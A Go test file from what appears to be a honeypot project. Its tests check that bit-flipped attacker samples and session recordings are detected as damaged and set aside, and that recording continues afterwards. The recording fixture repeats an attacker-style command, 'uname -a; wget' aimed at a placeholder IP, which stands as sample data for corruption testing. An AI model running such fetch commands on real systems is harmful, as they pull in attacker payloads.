package evidence

import (
	"bytes"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/internal/ipc"
	"honeyguide/internal/personal"
)

// TestSpoiltSamples flips bits of samples: nobody gets half of one or another
// than came, it is said, the others are whole, and what comes again is kept.
func TestSpoiltSamples(t *testing.T) {
	dir := t.TempDir()
	s := openSamples(t, dir, nil)
	whole := []byte("#!/bin/sh\necho untouched\n")
	bring(s, 1, whole, nil)
	bad := []byte("#!/bin/sh\n" + strings.Repeat("echo spoilt by the disk\n", 4000)) // of two chunks
	file := filepath.Join(dir, "samples", samplePath(sumOf(bad)))
	rnd := rand.New(rand.NewPCG(1, 9))
	aside := 0
	for round := range 60 {
		if e := bring(s, uint64(round+2), bad, nil); e.Str(honeyguide.AttrKept) != Kept {
			t.Fatalf("round %d: brought again it is not kept: %v", round, e.Attrs)
		}
		raw, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		at := rnd.IntN(len(raw))
		if round < 30 {
			at = rnd.IntN(250) // the head
		}
		raw[at] ^= 1 << rnd.IntN(8)
		if err := os.Chmod(file, 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, raw, 0o600); err != nil {
			t.Fatal(err)
		}
		r, err := s.Content(sumOf(bad))
		if err == nil {
			got, err := io.ReadAll(r)
			_ = r.Close()
			t.Fatalf("round %d: byte %d of %d is another, and %d bytes come of it (%v), right: %v", round, at, len(raw), len(got), err, bytes.Equal(got, bad))
		}
		if honeyguide.ErrorCode(err) != honeyguide.CodeUnavailable || !strings.Contains(err.Error(), "damaged") || !strings.Contains(err.Error(), "backup") {
			t.Errorf("round %d, byte %d: %v", round, at, err)
		}
		if _, err := os.Stat(file); err == nil { // the key might be another: it stays
			if err := os.Remove(file); err != nil {
				t.Fatal(err)
			}
			continue
		}
		aside++
		if _, err := os.Stat(file + badSuffix); err != nil {
			t.Errorf("round %d: %v", round, err)
		}
	}
	if aside < 20 {
		t.Errorf("%d were put aside", aside)
	}
	if !bytes.Equal(content(t, s, sumOf(whole)), whole) {
		t.Error("another sample is not whole")
	}
}

// TestSpoiltRecordings flips bits of recordings: whatever reads one ends, with
// what is there or with the line that is damaged; recording goes on.
func TestSpoiltRecordings(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	const session = "0123456789spoilt"
	at := time.Unix(1_700_000_000, 0)
	for n := range 200 {
		if err := s.Chunk(ipc.Chunk{Session: session, Stream: "io"[n%2], Time: at.Add(time.Duration(n) * time.Second), Data: []byte("uname -a; wget http://198.51.100.9/x\r\n")}); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(dir, Name(session))
	whole, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	rnd := rand.New(rand.NewPCG(2, 3))
	who, _ := personal.Parse("address:198.51.100.9")
	said := 0
	for round := range 300 {
		raw := bytes.Clone(whole)
		for range 1 + rnd.IntN(5) {
			raw[rnd.IntN(len(raw))] ^= 1 << rnd.IntN(8)
		}
		if err := os.WriteFile(file, raw, 0o600); err != nil {
			t.Fatal(err)
		}
		if err := Replay(t.Context(), io.Discard, bytes.NewReader(raw), ReplayOptions{}); err != nil {
			said++
			if honeyguide.ErrorCode(err) != honeyguide.CodeInvalid || !strings.Contains(err.Error(), "damaged at line") {
				t.Errorf("round %d: %v", round, err)
			}
		}
		_, _ = ReadTyping(bytes.NewReader(raw))
		s, err := Open(dir, Options{})
		if err != nil {
			t.Fatalf("round %d: %v", round, err)
		}
		if err := s.Chunk(ipc.Chunk{Session: session, Stream: 'o', Time: at.Add(time.Hour), Data: []byte("more")}); err != nil {
			t.Errorf("round %d: recording does not go on: %v", round, err)
		}
		if _, err := s.Rewrite(t.Context(), personal.Erase(who, personal.NewMark()), false, nil); err != nil {
			t.Errorf("round %d: erasing: %v", round, err)
		}
		if got, err := os.ReadFile(file); err != nil || !bytes.Contains(got, []byte("more")) {
			t.Errorf("round %d: what was recorded after is not there: %v", round, err)
		}
		_ = s.Close()
	}
	if said < 30 {
		t.Errorf("%d of 300 were seen to be damaged", said)
	}
}
